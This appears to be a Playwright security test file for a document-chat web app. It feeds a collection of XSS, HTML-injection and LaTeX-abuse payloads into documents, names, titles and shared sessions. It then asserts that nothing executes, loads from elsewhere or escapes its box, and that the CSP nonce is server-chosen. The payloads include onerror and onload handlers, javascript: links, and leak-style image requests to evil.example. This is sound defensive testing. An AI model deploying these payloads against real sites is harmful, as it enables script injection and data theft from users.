import type { Page } from "@playwright/test";
import { HOSTILE, hostileTexts } from "./hostile-corpus.ts";
import { call, createSession, expect, ORIGIN, test } from "./people.ts";

/** What a document, a question or an imported chat may try: to run script, to load from elsewhere, to style the page. */
const TREASURE = `# <script>window.pwned = 1</script> A hostile text

The treasure is buried under the oak. <img src="https://evil.example/leak.png" onerror="window.pwned = 1">

![a picture](https://evil.example/pixel.png?leak=secret) [a link](javascript:window.pwned=1) [data](data:text/html,<script>window.pwned=1</script>)

<iframe src="https://evil.example"></iframe> <svg onload="window.pwned=1"></svg> <style>body { display: none }</style>

<a href="https://evil.example" onmouseover="window.pwned=1">hover</a> <form action="https://evil.example"><input name="q"></form>

<link rel="stylesheet" href="https://evil.example/x.css"> <base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example">

[ref]: https://evil.example/ref.png
![ref] [ref]

<details open ontoggle="window.pwned=1"><summary>x</summary></details> <math><mtext><script>window.pwned=1</script></mtext></math>

\`\`\`html
<script>window.pwned = 1</script><b class="session" data-start="1" onclick="window.pwned=1">x</b>
\`\`\`

$\\href{javascript:window.pwned=1}{x}$ $\\includegraphics{https://evil.example/a.png}$ $\\url{https://evil.example}$

$\\htmlStyle{position:fixed;inset:0}{x}$ $\\htmlClass{session}{x}$ $\\htmlId{content}{x}$ $\\text{<img src=x onerror=window.pwned=1>}$

$$
\\kern-500em\\rule{9999em}{9999em}\\raisebox{500em}{over the page} \\def\\a{\\a\\a}\\a
$$

$\\kern-300em\\raisebox{300em}{over the page}\\rule{9999em}{9999em}$

\`\`\`math
\\text{</span><script>window.pwned = 1</script>}
\`\`\`
`;

test("a hostile text runs nothing, loads nothing from elsewhere and styles nothing", async ({ newPerson, baseURL }) => {
  const author = await newPerson("<img src=x onerror=window.pwned=1>");
  const { path, documentPath } = await createSession(author, `Where is the treasure? ${TREASURE}`, TREASURE);
  const page = await author.context.newPage();
  const elsewhere: string[] = [];
  const violations: string[] = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(String(baseURL)) && !/^(data|blob):/.test(request.url()))
      elsewhere.push(request.url());
  });
  page.on("console", (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
  });
  page.on("dialog", (dialog) => void dialog.dismiss().then(() => violations.push("dialog")));
  for (const at of [documentPath, path, "/"]) {
    await page.goto(at, { waitUntil: "networkidle" });
    expect(await page.evaluate(() => "pwned" in window)).toBe(false);
    await expect(page.locator("body")).toBeVisible();
    // A formula stays in its own box, whatever it asks for.
    const formulas = page.locator("main .math");
    for (const formula of await formulas.all()) {
      const { contain, overflowX } = await formula.evaluate((element) => getComputedStyle(element));
      expect([contain, overflowX]).toEqual(["paint", expect.stringMatching(/clip|auto/)]);
    }
    if (at !== "/") expect(await formulas.count()).toBeGreaterThan(2);
    await expect(
      page.locator(
        'main iframe, main form[action], main style, main svg[onload], main [onerror], main a[href^="javascript:"], main a[href^="data:"]',
      ),
    ).toHaveCount(0);
  }
  await expect(page.locator("head base")).toHaveCount(0);
  expect(elsewhere).toEqual([]);
  expect(violations).toEqual([]);
});

/** What a page must not do, as it happens. */
async function watch(page: Page) {
  const seen = { requests: [] as string[], dialogs: 0, reports: [] as string[] };
  await page.exposeFunction("reportViolation", (what: string) => void seen.reports.push(what));
  await page.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (event) => {
      Object(window).reportViolation(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  page.on("request", (request) => {
    if (!request.url().startsWith(ORIGIN) && !/^(data|blob):/.test(request.url())) seen.requests.push(request.url());
  });
  page.on("dialog", (dialog) => {
    seen.dialogs += 1;
    void dialog.dismiss();
  });
  return seen;
}

test("a corpus of hostile texts, as document, page, message, title and shared session, does nothing at all", async ({
  newPerson,
  browser,
}) => {
  test.setTimeout(240_000);
  const name = "<img src=x onerror=window.pwned=1>";
  const author = await newPerson(name);
  const { request } = author.context;
  const [whole = ""] = hostileTexts(1_000_000);
  const { documentId, documentPath } = await createSession(author, undefined, whole);
  const file = {
    name: `${name}.html`,
    mimeType: "text/html",
    buffer: Buffer.from(`<h1>Page</h1>${whole}<p>The end.</p>`),
  };
  const uploaded = await request.post("/api/documents", { multipart: { file }, headers: { origin: ORIGIN } });
  expect(uploaded.status(), await uploaded.text()).toBe(201);
  const pages = [documentPath, `/documents/${(await uploaded.json()).document.id}`, "/"];
  const shared: string[] = [];
  for (const [at, text] of hostileTexts(15_000).entries()) {
    const title = HOSTILE[at * 7]?.replace(/\s+/g, " ").slice(0, 190) ?? name;
    const session = await call(request, "chatSession.create", { documentId, title });
    const chatSessionId = session.id;
    await call(request, "message.send", { chatSessionId, content: text, wait: true });
    pages.push(`/documents/${documentId}/sessions/${chatSessionId}`);
    shared.push(String((await call(request, "shareLink.create", { chatSessionId })).path));
  }
  const anybody = await browser.newContext();
  const counts = { pages: 0, requests: 0, scripts: 0, dialogs: 0, reports: 0 };
  for (const [context, paths] of [
    [author.context, pages],
    [anybody, shared],
  ] as const) {
    for (const path of paths) {
      const page = await context.newPage();
      const seen = await watch(page);
      const answer = await page.goto(ORIGIN + path, { waitUntil: "networkidle" });
      expect(answer?.status()).toBe(200);
      // Whoever moves over it, presses Tab through it and points at it sets off what waits for that.
      await page.mouse.move(400, 300);
      for (let n = 0; n < 25; n += 1) await page.keyboard.press("Tab");
      const pwned = await page.evaluate(() => "pwned" in window);
      const bad = page.locator(
        'main :is(iframe, object, embed, form[action], style, link, meta, svg[onload], [onerror], [onclick], [style*="url("]), main a[href^="javascript:" i], main a[href^="data:" i], main img[src^="http"]',
      );
      expect(await bad.count(), path).toBe(0);
      expect([path, seen.requests, seen.reports, seen.dialogs, pwned]).toEqual([path, [], [], 0, false]);
      counts.pages += 1;
      counts.requests += seen.requests.length;
      counts.scripts += Number(pwned);
      counts.dialogs += seen.dialogs;
      counts.reports += seen.reports.length;
      await page.close();
    }
  }
  await anybody.close();
  expect(HOSTILE.length).toBeGreaterThan(150);
  process.stdout.write(`${HOSTILE.length} payloads: ${JSON.stringify(counts)}\n`);
});

test("a page's policy has a nonce of its own, whatever the client sends", async ({ request }) => {
  const policies: string[] = [];
  for (const nonce of ["", "chosen-by-the-client"]) {
    const headers = { "x-nonce": nonce, "content-security-policy": `script-src 'nonce-${nonce}'` };
    const answer = await request.get("/sign-in", { headers });
    const policy = answer.headers()["content-security-policy"] ?? "";
    const [, given] = /script-src 'nonce-([^']+)' 'strict-dynamic'/.exec(policy) ?? [];
    expect(given).toBeTruthy();
    const html = await answer.text();
    const scripts = [...html.matchAll(/<script([^>]*)>/g)].map((match) => match[1] ?? "");
    expect(scripts.length).toBeGreaterThan(0);
    for (const attributes of scripts) expect(attributes).toContain(`nonce="${given}"`);
    expect(html).not.toContain("chosen-by-the-client");
    policies.push(policy);
  }
  expect(policies[0]).not.toBe(policies[1]);
});
